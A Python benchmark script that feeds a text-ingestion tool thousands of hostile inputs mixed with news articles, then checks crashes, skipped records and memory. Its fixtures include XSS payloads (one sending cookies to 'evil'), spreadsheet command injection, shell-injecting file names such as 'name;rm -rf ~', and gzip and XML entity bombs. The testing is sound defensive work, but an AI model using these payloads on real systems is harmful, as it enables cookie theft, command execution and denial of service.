"""Hostile-input benchmark: a pile of ≥ 2,000 hostile inputs mixed with good articles, given to the command users run
(`linimasa run DIR --db X --jobs 2`), then checked against the store it wrote.

The pile: random bytes, wrong and mixed encodings, NUL bytes, empty and whitespace-only files, huge files (a sparse
file far over the size limit, a multi-MB article on one line), deeply nested and script-laden HTML, gzip bombs (one
inflating to 10 GB, made by streaming zeros through zlib: the file itself is ~10 MB; six of 600 MiB made of one
line, blank lines, junk lines), malformed JSON Lines, odd file
names (newlines, Unicode, bytes that are not UTF-8, 255 bytes long, leading dashes) and special files (FIFOs,
devices, symlink loops, dangling links, folders named like files, unreadable files), and a page of one sentence that
holds thousands of time stamps ("(15/10) pukul 10.00 WIB" repeated: every stamp is a time expression, so work done
per expression over the whole sentence grows with its square; that page is also run alone and its time reported as
`stamp_page_seconds`). The good articles are T17
(English) and IndoSum (Indonesian) articles from ../shared/eval-data, as .txt files and as lines of JSON Lines files
that also hold malformed lines.

Reported (and written to bench/hostile.json): crashes (an exit status other than 0 or 3, or a traceback), inputs
unaccounted for (every input must be stored, or recorded in the `skipped` table with a reason), good documents lost,
peak memory and time. Memory is sampled every `SAMPLE_S` seconds: resident memory (RSS) of the main process and of
the largest worker, and of the whole process tree two ways: RSS summed over its processes (which counts pages the
processes share, such as the libraries' code, once per process) and PSS, proportional set size from
/proc/PID/smaps_rollup (a page shared by n processes counts 1/n in each), whose sum is what the tree really holds.

    python bench/hostile.py                        # 2,000 hostile inputs + 200 good articles, 10 GB bomb (~5-7 min)
    python bench/hostile.py --hostile 200 --good 20 --bomb-gib 1     # a quick run
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import json
import os
import random
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import psutil

sys.path.insert(0, str(Path(__file__).resolve().parent))
from eventdata import indosum_text  # noqa: E402

REPO = Path(__file__).resolve().parents[1]
EVAL = REPO.parent / "shared" / "eval-data"
T17 = EVAL / "timeline17"
INDOSUM = EVAL / "indosum" / "indosum_dev_folds1-5.jsonl.gz"
SAMPLE_S = 0.05  # memory sampling period: short next to how long a bomb takes to inflate to the limit (~1 s)
MAX_ARTICLE_CHARS = 20_000  # longer than nine news articles in ten of T17 and IndoSum
ZERO_CHUNK = 1 << 20  # the block of zeros a bomb repeats; its deflated form is ~1 KiB


# ---------------------------------------------------------------------------------------------------------------
# Good articles


def articles(n: int, skip: int = 0) -> list[str]:
    """`n` article texts, half T17 (English), half IndoSum (Indonesian), after the first `skip` of each."""
    english, indonesian = [], []
    for folder in sorted(p for p in T17.iterdir() if p.is_dir()):
        with gzip.open(folder / "articles.jsonl.gz", "rt", encoding="utf-8") as f:
            english += [json.loads(line)["text"] for line in f]
    with gzip.open(INDOSUM, "rt", encoding="utf-8") as f:
        for line in f:
            indonesian.append(indosum_text(json.loads(line)["paragraphs"]))
            if len(indonesian) >= skip + n:
                break
    # T17 repeats a few pages; short ones are stubs, and a few "articles" of 0.5 MB are whole live blogs (half a
    # minute each through the pipeline: the one-line article stands for those)
    english = [t for t in dict.fromkeys(english) if 600 < len(t) < MAX_ARTICLE_CHARS]
    indonesian = [t for t in indonesian if len(t) < MAX_ARTICLE_CHARS]
    half = n // 2
    return english[skip: skip + n - half] + indonesian[skip: skip + half]


def phrase(text: str) -> str:
    """A piece of an article's longest line that its stored text must still hold."""
    line = max(text.splitlines(), key=len).strip()
    middle = len(line) // 2
    return line[middle: middle + 40]


# ---------------------------------------------------------------------------------------------------------------
# The pile


@dataclass
class Input:
    """One input of the pile: where it is, what kind it is, and how to tell that it was accounted for."""

    path: Path
    kind: str
    data: bytes | None = None  # None: not a regular file (FIFO, link, folder) or too large to hash
    good: list[str] = field(default_factory=list)  # phrases of the good articles it holds (by line for JSONL)
    lines: dict[int, bytes] | None = None  # JSONL: line number -> line, each to be stored or skipped
    stream: bool = False  # a gzip bomb: one record for the file or any of its lines is enough


def gzip_bomb(path: Path, inflated: int, fill: bytes = b"\0") -> None:
    """A gzip file of `inflated` bytes of `fill`, streamed: each 1 MiB block is deflated once after a full flush
    (which resets the window, so every block deflates the same way) and its bytes repeated; the trailer's CRC-32 is
    computed over every block. `gzip -t` accepts it."""
    block_in = fill * (ZERO_CHUNK // len(fill))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block_in) + compressor.flush(zlib.Z_FULL_FLUSH)
    block_out = compressor.compress(block_in) + compressor.flush(zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(inflated, len(block_in))
    crc = 0
    with path.open("wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")  # gzip header: deflate, no name, no time
        for i in range(blocks):
            out.write(first if i == 0 else block_out)
            crc = zlib.crc32(block_in, crc)
        out.write(compressor.compress(block_in[:rest]) + compressor.flush())
        crc = zlib.crc32(block_in[:rest], crc)
        out.write(crc.to_bytes(4, "little") + (inflated % 2**32).to_bytes(4, "little"))


class Pile:
    """Writes inputs into a folder and keeps what is needed to check them afterwards."""

    def __init__(self, root: Path, rng: random.Random, texts: list[str]):
        self.root, self.rng, self.texts = root, rng, texts
        self.inputs: list[Input] = []
        self.count = 0

    def name(self, kind: str, ending: str) -> str:
        self.count += 1
        return f"{self.rng.randrange(10**6):06d}-{self.count:05d}-{kind}{ending}"

    def text(self) -> str:
        """An article text made unique, so that no two inputs are the same bytes by chance."""
        return f"{self.rng.choice(self.texts)}\n\n(#{self.count})"

    def file(self, kind: str, data: bytes, ending: str = ".txt", name: str = "", folder: Path | None = None,
             good: list[str] | None = None) -> Input:
        path = (folder or self.root) / (name or self.name(kind, ending))
        path.write_bytes(data)
        item = Input(path, kind, data, good or [])
        if path.name.lower().endswith(".jsonl"):  # each line is recorded on its own, numbered as splitlines does
            item.lines = {n: line for n, line in enumerate(data.splitlines(), start=1) if line.strip()}
        self.inputs.append(item)
        return item

    def jsonl(self, kind: str, lines: list[bytes], good: list[str] | None = None, newline: bytes = b"\n") -> Input:
        return self.file(kind, newline.join(lines) + newline, ".jsonl", good=good)

    def other(self, kind: str, path: Path) -> Input:
        item = Input(path, kind)
        self.inputs.append(item)
        return item


def _record(text: str, **extra: object) -> bytes:
    return json.dumps({"text": text, **extra}, ensure_ascii=False).encode()


# Each maker writes one hostile input (sometimes a few) of its kind; `make_pile` calls them in turn.

def random_bytes(p: Pile) -> None:
    p.file("random", p.rng.randbytes(p.rng.choice([1, 7, 512, 4096, 65536])), p.rng.choice([".txt", ".html", ".jsonl"]))


def wrong_encoding(p: Pile) -> None:
    encoding = p.rng.choice(["cp1252", "latin-1", "shift_jis", "koi8-r", "utf-16", "utf-16-le", "utf-32", "cp1250",
                             "mac_roman", "big5"])
    p.file(f"enc-{encoding}", p.text().encode(encoding, errors="replace"), p.rng.choice([".txt", ".html"]))


def mixed_encoding(p: Pile) -> None:
    a, b = p.text(), p.text()
    p.file("mixed-enc", a.encode("utf-8") + "Café déjà vu — “quoted”".encode("cp1252") + b.encode("utf-8"))


def nul_bytes(p: Pile) -> None:
    text = p.text().encode()
    where = p.rng.choice(["start", "middle", "every", "all"])
    data = {"start": b"\0" + text, "middle": text[:100] + b"\0" + text[100:], "every": b"\0".join(text.split(b" ")),
            "all": b"\0" * p.rng.randrange(1, 10000)}[where]
    p.file(f"nul-{where}", data, p.rng.choice([".txt", ".html"]))


def empty(p: Pile) -> None:
    p.file("empty", b"", p.rng.choice([".txt", ".html", ".htm", ".jsonl"]))


def whitespace(p: Pile) -> None:
    chars = [" ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028"]
    p.file("whitespace", "".join(p.rng.choice(chars) for _ in range(p.rng.randrange(1, 3000))).encode(),
           p.rng.choice([".txt", ".html", ".jsonl"]))


def nested_html(p: Pile) -> None:
    depth = p.rng.choice([300, 3000, 30000, 100000])
    tag = p.rng.choice(["div", "span", "table><tr><td", "ul><li", "b"])
    close = "".join(f"</{t.split()[0]}>" for t in reversed(tag.split("><")))
    body = f"<p>{p.text()}</p>"
    p.file(f"nested-{depth}", ("<html><body>" + f"<{tag}>" * depth + body + close * depth + "</body></html>").encode(),
           ".html")


SCRIPTS = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil/'+document.cookie)\">",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<iframe src=\"//evil.example/\"></iframe>",
    "<svg onload=alert(1)><script>while(1){}</script></svg>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "=HYPERLINK(\"http://evil/\",\"klik\")",
    "+cmd|' /C calc'!A0",
    "<!--<script>alert(2)</script>-->",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
]


def script_html(p: Pile) -> None:
    parts = [f"<p>{para}</p>" for para in p.text().split("\n\n")]
    for _ in range(p.rng.randrange(1, 6)):
        parts.insert(p.rng.randrange(len(parts) + 1), p.rng.choice(SCRIPTS))
    p.file("script", ("<html><head><title>" + p.rng.choice(SCRIPTS) + "</title></head><body>" + "".join(parts)
                      + "</body></html>").encode(), ".html")


def entity_bomb(p: Pile) -> None:
    entities = "".join(f'<!ENTITY l{i} "&l{i - 1};&l{i - 1};&l{i - 1};&l{i - 1};&l{i - 1};">' for i in range(1, 10))
    p.file("entity-bomb", (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{entities}]>'
                           f"<html><body><p>&l9;</p><p>{p.text()}</p></body></html>").encode(), ".html")


BOMB_FILLS = (b"\0", b"\n", b" \r\n", b"x\n", b"a", b'{"text": "')  # one line, blank lines, junk lines, …


def small_bomb(p: Pile, fill: bytes) -> None:
    """A 600 MiB gzip bomb of `fill` (~600 KB): over the 400 MiB inflation limit of the default max_bytes."""
    path = p.root / p.name("bomb", ".jsonl.gz")
    gzip_bomb(path, 600 * 2**20, fill)
    p.other("bomb-600MiB", path).stream = True


def bad_gzip(p: Pile) -> None:
    good = gzip.compress(b"\n".join(_record(p.text()) for _ in range(3)) + b"\n")
    kind, data = p.rng.choice([("gz-truncated", good[: len(good) // 2]), ("gz-not-gzip", p.text().encode()),
                               ("gz-corrupt", good[:20] + p.rng.randbytes(40) + good[60:]),
                               ("gz-two-members", good + gzip.compress(_record(p.text()) + b"\n"))])
    item = p.file(kind, data, ".jsonl.gz")
    item.stream = True  # a broken stream is recorded by the lines read and the line it broke at


def malformed_jsonl(p: Pile) -> None:
    bad = [
        b'{"text": "unterminated',
        b"[1, 2, 3]",
        b"42",
        b'"just a string"',
        b"null",
        b'{"title": "no text field"}',
        b'{"text": null}',
        b'{"text": 12345}',
        b'{"text": {"nested": "object"}}',
        b'{"text": ["a", "list"]}',
        b'{"html": "<script>alert(1)</script>"}',
        b"[" * 100000 + b"]" * 100000,
        b'{"a":' * 50000 + b"1" + b"}" * 50000,
        b'{"text": "x", "date": "not a date", "id": {"x": 1}}',
        b'{"text": 1e999999}',
        b'{"text": NaN}',
        b'{"text": "\\ud800 lone surrogate \\udfff"}',
        b'{"text": "bad utf-8 \xff\xfe here"}',
        b"\xef\xbb\xbf" + _record(p.text()),
        b'{"text": "' + b"\\u0000" * 100 + b'"}',
        b"{'text': 'single quotes'}",
        b'{"text": "a", "text": "duplicate keys"}',
        p.rng.randbytes(200).replace(b"\n", b" ").replace(b"\r", b" "),
    ]
    lines = p.rng.sample(bad, p.rng.randrange(1, 6)) + [_record(p.text()) for _ in range(p.rng.randrange(0, 3))]
    p.rng.shuffle(lines)
    p.jsonl("jsonl-malformed", lines, newline=p.rng.choice([b"\n", b"\r\n"]))


def odd_name(p: Pile) -> None:
    stem = p.rng.choice([
        "line\nbreak", "tab\there", "-leading-dash", "--help", "-", " spaces ", "ünïcödé-名前-اسم", "\u202etxt.exe",
        "emoji-\U0001f4f0", "combining-e\u0301", "*?[glob]", "$(echo pwned)", "'quote\"", "back\\slash", ".hidden",
        "a" * 240, "nul-ish-\u2400", "CON", "name;rm -rf ~",
    ])
    raw = stem.encode() + f"-{p.count}".encode()
    if p.rng.random() < 0.3:
        raw = b"latin1-\xe9\xff-" + raw  # bytes that are not UTF-8: a name Python holds with surrogate escapes
    ending = p.rng.choice([b".txt", b".TXT", b".html", b".Htm"])
    raw = raw[: 255 - len(ending)] + ending  # 255 bytes: the longest name Linux file systems take
    path = Path(os.fsdecode(bytes(p.root) + b"/" + raw))
    p.text()  # keeps `count` moving so the text below is unique
    p.file("odd-name", p.text().encode(), name=path.name)


def special(p: Pile) -> None:
    kind = p.rng.choice(["fifo", "device-link", "loop", "dangling", "folder-named-file", "unreadable", "self-link",
                         "socket", "deep-path"])
    path = p.root / p.name(kind, ".txt")
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "device-link":
        os.symlink(p.rng.choice(["/dev/zero", "/dev/urandom", "/dev/null"]), path)
    elif kind == "loop":
        other = p.root / p.name("loop", ".txt")
        os.symlink(other.name, path)
        os.symlink(path.name, other)
        p.other(kind, other)
    elif kind == "dangling":
        os.symlink("/nonexistent/" + path.name, path)
    elif kind == "folder-named-file":
        path.mkdir()
    elif kind == "self-link":
        os.symlink(path.name, path)
    elif kind == "socket":
        sock = socket.socket(socket.AF_UNIX)
        try:
            sock.bind(str(path))
        except OSError:  # a socket path longer than 107 bytes cannot be bound; a FIFO stands in
            os.mkfifo(path)
        finally:
            sock.close()
    elif kind == "unreadable":
        item = p.file(kind, p.text().encode(), name=path.name)
        path.chmod(0)
        item.kind = kind
        return
    elif kind == "deep-path":
        folder = p.root / f"deep-{p.count}"
        folder = folder.joinpath(*["d" * 100] * 35)  # a path of ~3,600 bytes, near PATH_MAX
        folder.mkdir(parents=True)
        p.file(kind, p.text().encode(), folder=folder)
        return
    p.other(kind, path)


def html_text_mismatch(p: Pile) -> None:
    """Markup that lies: a .txt that is HTML, an .html that is plain text, markup broken halfway."""
    text = p.text()
    data = p.rng.choice([f"<html><body><p>{text}</p>", f"{text}", f"<p>{text[:200]}<div<<<>>>{text[200:]}",
                         f"<html><body>{'<p>' * 5}{text}</td></tr></table></html></html>"]).encode()
    p.file("markup", data, p.rng.choice([".txt", ".html"]))


def duplicate(p: Pile) -> None:
    """The same bytes under two names: the second is 'already stored', which counts as accounted for."""
    data = p.text().encode()
    p.file("duplicate", data)
    p.file("duplicate", data)


MAKERS: tuple[Callable[[Pile], None], ...] = (
    random_bytes, random_bytes, wrong_encoding, wrong_encoding, mixed_encoding, nul_bytes, empty, whitespace,
    nested_html, script_html, script_html, entity_bomb, bad_gzip, malformed_jsonl, malformed_jsonl, odd_name,
    odd_name, special, html_text_mismatch, duplicate,
)


STAMP = "(15/10) pukul 10.00 WIB"  # an Indonesian news time stamp: a date and a clock time, two time expressions


def stamp_page(stamps: int) -> bytes:
    """A page whose middle line is one sentence of `stamps` time stamps, between a news sentence and a spreadsheet
    formula."""
    return ("Polisi pada Sabtu (15/10) menangkap dua tersangka di Jakarta.\n"
            + " ".join([STAMP] * stamps) + "\n=HYPERLINK(\"http://example.com\",\"klik\")\n").encode()


def make_pile(root: Path, hostile: int, good: int, bomb_gib: float, huge_mb: float, seed: int,
              small_bombs: bool = True, stamps: int = 0) -> Pile:
    """`hostile` hostile inputs (the big ones first: the bomb, a 600 MiB bomb of each of `BOMB_FILLS` unless
    `small_bombs` is False, a sparse file, a one-line article of `huge_mb`)
    mixed with `good` good articles, three quarters as .txt files and a quarter as lines of JSON Lines files that
    also hold malformed lines."""
    rng = random.Random(seed)
    texts = articles(good + 40)
    good_texts, hostile_texts = texts[:good], texts[good:]
    pile = Pile(root, rng, hostile_texts)
    if bomb_gib:
        path = root / pile.name("bomb-10g", ".jsonl.gz")
        gzip_bomb(path, int(bomb_gib * 2**30))
        pile.other(f"bomb-{bomb_gib:g}GiB", path).stream = True
    for fill in BOMB_FILLS if small_bombs else ():
        small_bomb(pile, fill)
    sparse = root / pile.name("sparse-30g", ".txt")
    with sparse.open("wb") as f:
        f.truncate(30 * 2**30)  # 30 GiB that take no disk: the size check must come before any read
    pile.other("sparse-30GiB", sparse)
    if huge_mb:
        words = " ".join(hostile_texts).split()
        line = " ".join(rng.choice(words) for _ in range(int(huge_mb * 2**20 / 6)))
        pile.file(f"one-line-{huge_mb:g}MB", line.encode(), ".txt")
    if stamps:
        pile.file(f"time-stamps-{stamps}", stamp_page(stamps), ".txt")
    while len(pile.inputs) < hostile:
        MAKERS[len(pile.inputs) % len(MAKERS)](pile)
    as_lines = good // 4
    for text in good_texts[as_lines:]:
        pile.file("good", text.encode(), ".txt", good=[phrase(text)])
    for start in range(0, as_lines, 5):
        chunk = good_texts[start: start + 5]
        lines = [_record(t) for t in chunk] + [b'{"text": "unterminated', b"[1, 2]", b"", b"   "]
        rng.shuffle(lines)
        pile.jsonl("good-jsonl", lines, good=[phrase(t) for t in chunk])
    return pile


# ---------------------------------------------------------------------------------------------------------------
# Running and checking


def source_of(path: Path) -> str:
    """The path as linimasa records it (names that are not UTF-8 keep their bytes as backslash escapes)."""
    return os.fsencode(path).decode("utf-8", "backslashreplace")


def pss(pid: int) -> int:
    """Proportional set size of process `pid` in bytes (0 when it is gone): its private pages, plus each page it
    shares with n processes counted 1/n."""
    try:
        with open(f"/proc/{pid}/smaps_rollup") as f:
            return next((int(line.split()[1]) * 1024 for line in f if line.startswith("Pss:")), 0)
    except OSError:
        return 0


class Sampler(threading.Thread):
    """Peak memory of a process and all its children together (RSS summed, and PSS summed), of the process alone
    (RSS), and of its largest child (RSS), sampled every `SAMPLE_S` seconds."""

    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.process = psutil.Process(pid)
        self.peak_tree = self.peak_main = self.peak_worker = 0  # the worker's: the largest child process's
        self.peak_tree_pss = 0
        self.done = threading.Event()

    def run(self) -> None:
        while not self.done.is_set():
            try:
                procs = [self.process] + self.process.children(recursive=True)
            except psutil.NoSuchProcess:
                return
            sizes = []
            for proc in procs:
                try:
                    sizes.append(proc.memory_info().rss)
                except psutil.NoSuchProcess:
                    sizes.append(0)
            self.peak_tree = max(self.peak_tree, sum(sizes))
            self.peak_tree_pss = max(self.peak_tree_pss, sum(pss(proc.pid) for proc in procs))
            self.peak_main = max(self.peak_main, sizes[0])
            self.peak_worker = max(self.peak_worker, max(sizes[1:], default=0))
            time.sleep(SAMPLE_S)


def linimasa_command() -> list[str]:
    """The `linimasa` command of this virtual environment (the one users run)."""
    script = Path(sys.executable).with_name("linimasa")
    return [str(script)] if script.exists() else [sys.executable, "-m", "linimasa"]


@dataclass
class Run:
    returncode: int
    stderr: str
    seconds: float
    peak_tree_mib: float
    peak_main_mib: float
    peak_worker_mib: float
    peak_pss_tree_mib: float


def run_linimasa(paths: list[Path], db: Path, jobs: int = 2, extra: list[str] | None = None,
                 kill_after_s: float | None = None) -> Run:
    """`linimasa run PATHS --db DB --jobs N`, memory sampled; with `kill_after_s`, SIGKILLed after that long."""
    command = linimasa_command() + ["run", *map(str, paths), "--db", str(db), "--jobs", str(jobs), *(extra or [])]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        t0 = time.perf_counter()
        proc = subprocess.Popen(command, stdout=out, stderr=err, start_new_session=True)
        sampler = Sampler(proc.pid)
        sampler.start()
        try:
            proc.wait(timeout=kill_after_s)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)  # the run and its worker processes, as a power cut would
            proc.wait()
        seconds = time.perf_counter() - t0
        sampler.done.set()
        sampler.join()
        err.seek(0)
        stderr = err.read().decode("utf-8", "replace")
    mib = [round(peak / 2**20, 1) for peak in (sampler.peak_tree, sampler.peak_main, sampler.peak_worker,
                                                sampler.peak_tree_pss)]
    return Run(proc.returncode, stderr, round(seconds, 1), *mib)


@dataclass
class Stored:
    """What the store holds, by source."""

    texts: dict[str, str]
    hashes: set[str]
    skipped: dict[str, str]

    @classmethod
    def read(cls, db: Path) -> "Stored":
        with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
            texts = dict(con.execute("SELECT source, text FROM documents"))
            hashes = {h for (h,) in con.execute("SELECT content_sha256 FROM documents")}
            skipped = dict(con.execute("SELECT source, reason FROM skipped"))
        con.close()
        return cls(texts, hashes, skipped)


def unaccounted(item: Input, stored: Stored) -> list[str]:
    """What of `item` the store neither holds nor records as skipped ([] when all of it is accounted for)."""
    source = source_of(item.path)
    if source in stored.texts or source in stored.skipped:
        return []
    if item.data is not None and item.lines is None and hashlib.sha256(item.data).hexdigest() in stored.hashes:
        return []  # the same bytes under another name: 'already stored'
    if item.stream:
        prefix = source + ":"
        return [] if any(s.startswith(prefix) for s in [*stored.texts, *stored.skipped]) else [source]
    if item.lines == {}:
        return [source]  # a JSON Lines file with no line to read must be recorded as a whole
    if item.lines is not None:
        return [f"{source}:{n}" for n, line in item.lines.items()
                if f"{source}:{n}" not in stored.texts and f"{source}:{n}" not in stored.skipped
                and hashlib.sha256(line).hexdigest() not in stored.hashes]
    return [source]


def lost_good(item: Input, stored: Stored) -> list[str]:
    """The good articles of `item` whose text the store does not hold."""
    source = source_of(item.path)
    if item.lines is None:
        texts = [stored.texts.get(source, "")]
    else:
        texts = [stored.texts.get(f"{source}:{n}", "") for n in item.lines]
    texts = [" ".join(t.split()) for t in texts]  # cleaning folds no-break spaces and runs of spaces
    return [f"{source}: {p!r}" for p in item.good if not any(" ".join(p.split()) in t for t in texts)]


def check(pile: Pile, db: Path) -> dict:
    stored = Stored.read(db)
    missing = [m for item in pile.inputs for m in unaccounted(item, stored)]
    lost = [m for item in pile.inputs for m in lost_good(item, stored)]
    kinds: dict[str, int] = {}
    for item in pile.inputs:
        kind = item.kind.split("-")[0] if not item.kind.startswith(("good", "bomb", "one-line", "time-stamps")) else item.kind
        kinds[kind] = kinds.get(kind, 0) + 1
    return {"stored": len(stored.texts), "skipped": len(stored.skipped), "unaccounted": len(missing),
            "unaccounted_examples": missing[:10], "good_lost": len(lost), "good_lost_examples": lost[:10],
            "kinds": dict(sorted(kinds.items()))}


def crashed(run: Run) -> bool:
    return run.returncode not in (0, 3) or "Traceback" in run.stderr


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--hostile", type=int, default=2000, help="hostile inputs (default 2,000)")
    parser.add_argument("--good", type=int, default=200, help="good articles (default 200)")
    parser.add_argument("--bomb-gib", type=float, default=10, help="inflated size of the big gzip bomb (0: none)")
    parser.add_argument("--huge-mb", type=float, default=2, help="size of the one-line article (0: none)")
    parser.add_argument("--stamps", type=int, default=5000, help="time stamps on the time-stamp page (0: none)")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--seed", type=int, default=18)
    parser.add_argument("--out", default=str(Path(__file__).with_name("hostile.json")))
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "pile"
        root.mkdir()
        t0 = time.perf_counter()
        pile = make_pile(root, args.hostile, args.good, args.bomb_gib, args.huge_mb, args.seed, stamps=args.stamps)
        made = time.perf_counter() - t0
        good = sum(len(i.good) for i in pile.inputs)
        print(f"{len(pile.inputs)} inputs ({good} good articles) written in {made:.1f} s", flush=True)
        db = Path(tmp) / "hostile.db"
        run = run_linimasa([root], db, args.jobs)
        with sqlite3.connect(db) as con:
            integrity = con.execute("PRAGMA integrity_check").fetchone()[0]
        con.close()
        stamps_alone = None
        if args.stamps:
            page = Path(tmp) / "stamps.txt"
            page.write_bytes(stamp_page(args.stamps))
            stamps_alone = run_linimasa([page], Path(tmp) / "stamps.db", 1)
        result = {
            "inputs": len(pile.inputs), "hostile_inputs": len(pile.inputs) - sum(1 for i in pile.inputs if i.good),
            "good_articles": good, "bomb_gib": args.bomb_gib, "huge_mb": args.huge_mb, "stamps": args.stamps,
            "jobs": args.jobs,
            "exit_status": run.returncode, "crashes": int(crashed(run)),
            "traceback": run.stderr[run.stderr.find("Traceback"):][:3000] if "Traceback" in run.stderr else "",
            **check(pile, db), "integrity_check": integrity,
            "peak_rss_tree_mib": run.peak_tree_mib, "peak_rss_main_mib": run.peak_main_mib,
            "peak_rss_largest_worker_mib": run.peak_worker_mib, "peak_pss_tree_mib": run.peak_pss_tree_mib,
            "seconds": run.seconds, "seconds_to_write_pile": round(made, 1),
            "stamp_page_seconds": stamps_alone.seconds if stamps_alone else None,
            "stamp_page_crashed": int(crashed(stamps_alone)) if stamps_alone else None,
        }
    if result["crashes"] and not result["traceback"]:
        result["stderr_tail"] = run.stderr[-2000:]
    Path(args.out).write_text(json.dumps(result, ensure_ascii=False, indent=1) + "\n")
    print(json.dumps({k: v for k, v in result.items() if k != "kinds"}, ensure_ascii=False, indent=1))


if __name__ == "__main__":
    main()
